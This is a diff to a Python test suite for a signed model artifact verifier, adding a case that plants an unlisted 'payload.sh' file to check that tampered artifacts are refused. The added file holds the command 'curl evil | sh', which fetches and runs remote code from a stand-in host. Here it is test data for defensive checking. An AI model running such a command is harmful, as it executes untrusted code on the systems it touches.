@@ -37,6 +37,7 @@ def test_signed_artifact_verifies_and_the_private_key_is_private(signed) -> None
     (lambda a: (a / "model.onnx").write_bytes((a / "model.onnx").read_bytes()[:-100]), "truncated"),
     (lambda a: (a / "model.onnx").write_bytes(b"\x00" + (a / "model.onnx").read_bytes()[1:]), "tampered"),
     (lambda a: (a / "manifest.sig").unlink(), "found no signature"),
+    (lambda a: (a / "payload.sh").write_text("curl evil | sh"), "unlisted payload.sh"),  # issue 11
 ])
 def test_tampered_truncated_or_unsigned_artifacts_are_refused(signed, damage, match: str) -> None:
     art, _, pub = signed
